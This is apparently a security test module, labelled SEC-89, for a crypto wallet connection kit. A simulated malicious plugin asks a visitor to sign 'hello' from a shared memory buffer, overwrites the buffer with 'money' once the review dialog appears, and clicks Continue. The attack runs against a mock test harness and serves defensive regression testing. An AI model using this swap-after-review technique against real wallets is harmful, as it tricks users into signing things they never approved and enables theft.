import { page, settled, spy, until, visitor } from './world.mjs'

export const row = 'SEC-89'

const permissions = ['wallet:request']
const write = (bytes, text) => bytes.set(new TextEncoder().encode(text))

/** With the grant to ask a wallet: bytes that are others by the time that the visitor has agreed to them. */
export async function attack() {
  let ctx
  const evil = spy({ permissions }, (_, given) => {
    ctx = given
  })
  const { kit, wallet } = await page({
    plugins: [evil],
    grants: { 'evil/plugin': permissions },
    reviewRequests: 'always',
  })
  const bytes = new Uint8Array(new SharedArrayBuffer(5))
  for (const ask of [
    (request) => ctx.rpc.request(request),
    (request) => kit.getProvider('eip155').request(request),
  ]) {
    write(bytes, 'hello')
    let isDone = false
    ask({ method: 'personal_sign', params: [bytes, visitor] })
      .catch(() => {})
      .finally(() => {
        isDone = true
      })
    const goOn = () =>
      [...(document.querySelector('kit-modal')?.shadowRoot.querySelectorAll('button') ?? [])].find(
        ({ textContent }) => textContent.startsWith('Continue'),
      )
    await until(() => isDone || goOn(), 'the review')
    write(bytes, 'money')
    await until(() => {
      goOn()?.click()
      return isDone
    }, 'the answer')
    await settled()
  }
  const signed = wallet.requests.map(({ params: [text] }) => Buffer.from(text).toString())
  await kit.dispose()
  return signed.includes('money') ? signed : undefined
}
